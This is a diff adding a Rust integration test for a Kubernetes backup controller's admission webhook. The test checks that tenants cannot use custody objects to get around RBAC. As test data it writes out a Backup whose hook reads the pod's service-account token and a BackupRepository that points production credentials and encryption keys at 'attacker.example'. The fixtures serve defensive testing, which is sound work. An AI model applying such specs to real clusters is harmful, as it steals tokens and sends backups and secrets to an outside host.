@@ -1,0 +1,287 @@
+//! Issue 23: custody is never a way around RBAC. Against the real API server and the real
+//! controller with its validating webhook registered for the test's namespace: a tenant's
+//! Backup, BackupPlan, Cluster or BackupRepository that would make custody do what the tenant
+//! may not do itself (exec a hook, run a tool with a Secret, read a repository's credentials,
+//! hold another StatefulSet's pods) is refused at admission, naming what is missing; the same
+//! object is admitted once the tenant holds the permission, and an update that leaves the spec
+//! alone is not asked again.
+
+use std::time::Duration;
+
+use custody_kube::api::{Backup, BackupPlan, BackupRepository, Cluster};
+use custody_proto::names;
+use custody_tests::agent::{CONTROLLER_NAME, ControllerProcess};
+use custody_tests::pki::Pki;
+use custody_tests::{TestNamespace, eventually, free_port, tenant};
+use k8s_openapi::api::admissionregistration::v1::ValidatingWebhookConfiguration;
+use k8s_openapi::api::rbac::v1::RoleBinding;
+use kube::api::{Api, DeleteParams, Patch, PatchParams, PostParams};
+use serde_json::json;
+
+const TIMEOUT: Duration = Duration::from_secs(60);
+
+/// The controller with only its webhook of interest here: the requester check, registered for
+/// `namespace` alone.
+async fn controller(namespace: &TestNamespace) -> (ControllerProcess, String, Pki) {
+    let client = namespace.client.clone();
+    let ns = &namespace.name;
+    let port = free_port();
+    let configuration = format!("custody-requester-{ns}");
+    let configurations: Api<ValidatingWebhookConfiguration> = Api::all(client.clone());
+    let _ = configurations
+        .delete(&configuration, &DeleteParams::default())
+        .await;
+    configurations
+        .create(
+            &PostParams::default(),
+            &serde_json::from_value(json!({
+                "metadata": {"name": configuration},
+                "webhooks": [{
+                    "name": "requester.custody.io",
+                    "clientConfig": {"url": format!("https://127.0.0.1:{port}/validate-requester")},
+                    "rules": [{"operations": ["CREATE", "UPDATE"], "apiGroups": ["custody.io"],
+                               "apiVersions": ["v1alpha1"],
+                               "resources": ["backups", "backupplans", "clusters", "backuprepositories"]}],
+                    "namespaceSelector": {"matchLabels": {"kubernetes.io/metadata.name": ns}},
+                    "failurePolicy": "Fail",
+                    "sideEffects": "None",
+                    "admissionReviewVersions": ["v1"],
+                    "timeoutSeconds": 10,
+                }],
+            }))
+            .unwrap(),
+        )
+        .await
+        .expect("registering the webhook");
+    let pki = Pki::new(&[CONTROLLER_NAME, names::AGENT_SERVER_NAME]);
+    let process = ControllerProcess::start_as(
+        ns,
+        &pki,
+        &[
+            format!("--webhook-address=127.0.0.1:{port}"),
+            format!("--webhook-configuration=custody-{ns}-no-gate"),
+            format!("--validating-webhook-configuration={configuration}"),
+            format!("--webhook-secret={ns}/custody-webhook-tls"),
+            "--webhook-names=127.0.0.1".to_string(),
+            format!("--agent-service-account={ns}:custody-agent"),
+        ],
+        custody_tests::control_plane(),
+    );
+    eventually("the webhook's caBundle", TIMEOUT, || {
+        let configurations = configurations.clone();
+        let configuration = configuration.clone();
+        async move {
+            let found = configurations
+                .get(&configuration)
+                .await
+                .map_err(|error| error.to_string())?;
+            match found.webhooks.unwrap_or_default().first() {
+                Some(webhook) if webhook.client_config.ca_bundle.is_some() => Ok(()),
+                other => Err(format!("{other:?}")),
+            }
+        }
+    })
+    .await;
+    (process, configuration, pki)
+}
+
+/// Creates `value` as `client`; the API server's refusal message, if refused.
+async fn refusal<K>(
+    client: &kube::Client,
+    namespace: &str,
+    value: serde_json::Value,
+) -> Option<String>
+where
+    K: kube::Resource<Scope = kube::core::NamespaceResourceScope, DynamicType = ()>
+        + Clone
+        + std::fmt::Debug
+        + serde::de::DeserializeOwned
+        + serde::Serialize,
+{
+    let object: K = serde_json::from_value(value).expect("object");
+    match Api::<K>::namespaced(client.clone(), namespace)
+        .create(&PostParams::default(), &object)
+        .await
+    {
+        Ok(_) => None,
+        Err(kube::Error::Api(status)) => Some(status.message),
+        Err(error) => panic!("creating: {error}"),
+    }
+}
+
+#[tokio::test]
+async fn a_tenant_cannot_make_custody_do_what_it_may_not_do_itself() {
+    let namespace = TestNamespace::create("tenants").await;
+    let ns = namespace.name.clone();
+    let (_controller, configuration, _pki) = controller(&namespace).await;
+    // May write custody's kinds and update StatefulSet orders; nothing else.
+    let writer = tenant(
+        &namespace,
+        "writer",
+        json!([
+            {"apiGroups": ["custody.io"], "resources": ["backups", "backupplans", "clusters", "backuprepositories"],
+             "verbs": ["get", "list", "watch", "create", "update", "patch"]},
+            {"apiGroups": ["apps"], "resources": ["statefulsets"], "resourceNames": ["orders"],
+             "verbs": ["get", "update"]},
+        ]),
+    )
+    .await;
+    let user = format!("system:serviceaccount:{ns}:writer");
+    let backup = |name: &str, consistency: serde_json::Value| {
+        json!({"apiVersion": "custody.io/v1alpha1", "kind": "Backup", "metadata": {"name": name},
+               "spec": {"clusterRef": {"name": "orders"}, "consistency": consistency}})
+    };
+    let token_hook = json!({"method": "Hooks", "hooks": {"pre": {"command":
+        ["cat", "/var/run/secrets/kubernetes.io/serviceaccount/token"]}}});
+    let tool = json!({"method": "Tool", "tool": {"image": "postgres:15", "command": ["pg_basebackup"],
+        "credentialsSecretRef": {"name": "db-admin"}}});
+
+    // Refused, each naming the permission and the writer.
+    let cases: Vec<(&str, Option<String>, Vec<&str>)> = vec![
+        (
+            "a hook that prints the pod's token",
+            refusal::<Backup>(&writer, &ns, backup("exfiltrate", token_hook.clone())).await,
+            vec!["create pods/exec", "its hooks run commands"],
+        ),
+        (
+            "a tool with another's Secret",
+            refusal::<Backup>(&writer, &ns, backup("tool", tool.clone())).await,
+            vec!["create pods (its tool runs image postgres:15", "get secrets db-admin"],
+        ),
+        (
+            "a plan with hooks",
+            refusal::<BackupPlan>(&writer, &ns, json!({
+                "apiVersion": "custody.io/v1alpha1", "kind": "BackupPlan", "metadata": {"name": "nightly"},
+                "spec": {"clusterRef": {"name": "orders"}, "schedule": "0 3 * * *", "consistency": token_hook}})).await,
+            vec!["create pods/exec"],
+        ),
+        (
+            "a Cluster of a StatefulSet it may not change",
+            refusal::<Cluster>(&writer, &ns, json!({
+                "apiVersion": "custody.io/v1alpha1", "kind": "Cluster", "metadata": {"name": "payroll"},
+                "spec": {"statefulSetRef": {"name": "payroll"}, "volumeClaimTemplates": ["data"]}})).await,
+            vec!["update statefulsets.apps payroll"],
+        ),
+        (
+            "a repository with credentials it may not read",
+            refusal::<BackupRepository>(&writer, &ns, json!({
+                "apiVersion": "custody.io/v1alpha1", "kind": "BackupRepository", "metadata": {"name": "elsewhere"},
+                "spec": {"endpoint": "https://attacker.example", "bucket": "loot",
+                         "credentialsSecretRef": {"name": "production-s3"},
+                         "encryption": {"keySecretRef": {"name": "production-keys"}}}})).await,
+            vec!["get secrets production-s3", "get secrets production-keys", "https://attacker.example"],
+        ),
+    ];
+    for (case, refused, expected) in cases {
+        let message = refused.unwrap_or_else(|| panic!("{case}: admitted"));
+        for part in expected.iter().chain([&user.as_str()]) {
+            assert!(message.contains(part), "{case}: {part:?} not in {message}");
+        }
+    }
+    // Nothing of them was written.
+    let backups: Api<Backup> = namespace.api();
+    for name in ["exfiltrate", "tool"] {
+        assert!(
+            backups.get_opt(name).await.unwrap().is_none(),
+            "Backup {name}"
+        );
+    }
+    let plans: Api<BackupPlan> = namespace.api();
+    assert!(plans.get_opt("nightly").await.unwrap().is_none());
+    let clusters: Api<Cluster> = namespace.api();
+    assert!(clusters.get_opt("payroll").await.unwrap().is_none());
+    let repositories: Api<BackupRepository> = namespace.api();
+    assert!(repositories.get_opt("elsewhere").await.unwrap().is_none());
+
+    // Admitted: what needs nothing, and what the writer may do.
+    assert_eq!(
+        refusal::<Cluster>(
+            &writer,
+            &ns,
+            json!({
+            "apiVersion": "custody.io/v1alpha1", "kind": "Cluster", "metadata": {"name": "orders"},
+            "spec": {"statefulSetRef": {"name": "orders"}, "volumeClaimTemplates": ["data"]}})
+        )
+        .await,
+        None
+    );
+    assert_eq!(
+        refusal::<Backup>(&writer, &ns, backup("frozen", json!({"method": "Freeze"}))).await,
+        None
+    );
+    let bindings: Api<RoleBinding> = namespace.api();
+    bindings
+        .create(
+            &PostParams::default(),
+            &serde_json::from_value(json!({
+                "metadata": {"name": "writer-may-exec"},
+                "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": "edit"},
+                "subjects": [{"kind": "ServiceAccount", "name": "writer", "namespace": ns}],
+            }))
+            .unwrap(),
+        )
+        .await
+        .unwrap();
+    eventually(
+        "the hooked Backup admitted once the writer may exec",
+        TIMEOUT,
+        || {
+            let (writer, ns) = (writer.clone(), ns.clone());
+            let token_hook = backup(
+                "hooked",
+                json!({"method": "Hooks", "hooks": {"pre": {"command": ["sync"]}}}),
+            );
+            async move {
+                match refusal::<Backup>(&writer, &ns, token_hook).await {
+                    None => Ok(()),
+                    Some(message) => Err(message),
+                }
+            }
+        },
+    )
+    .await;
+
+    // Its right taken away again, the writer may still label what it wrote: the spec is as it was.
+    bindings
+        .delete("writer-may-exec", &DeleteParams::default())
+        .await
+        .unwrap();
+    eventually(
+        "a label on the hooked Backup, the writer's exec right gone",
+        TIMEOUT,
+        || {
+            let (writer, ns) = (writer.clone(), ns.clone());
+            async move {
+                // The right is gone first (RBAC is read from a cache): a new hooked Backup is refused.
+                if refusal::<Backup>(
+                    &writer,
+                    &ns,
+                    backup(
+                        "hooked-again",
+                        json!({"method": "Hooks", "hooks": {"pre": {"command": ["sync"]}}}),
+                    ),
+                )
+                .await
+                .is_none()
+                {
+                    return Err("the writer may still exec".to_string());
+                }
+                Api::<Backup>::namespaced(writer, &ns)
+                    .patch(
+                        "hooked",
+                        &PatchParams::default(),
+                        &Patch::Merge(json!({"metadata": {"labels": {"team": "orders"}}})),
+                    )
+                    .await
+                    .map(|_| ())
+                    .map_err(|error| error.to_string())
+            }
+        },
+    )
+    .await;
+
+    let _ = Api::<ValidatingWebhookConfiguration>::all(namespace.client.clone())
+        .delete(&configuration, &DeleteParams::default())
+        .await;
+    namespace.delete().await;
+}
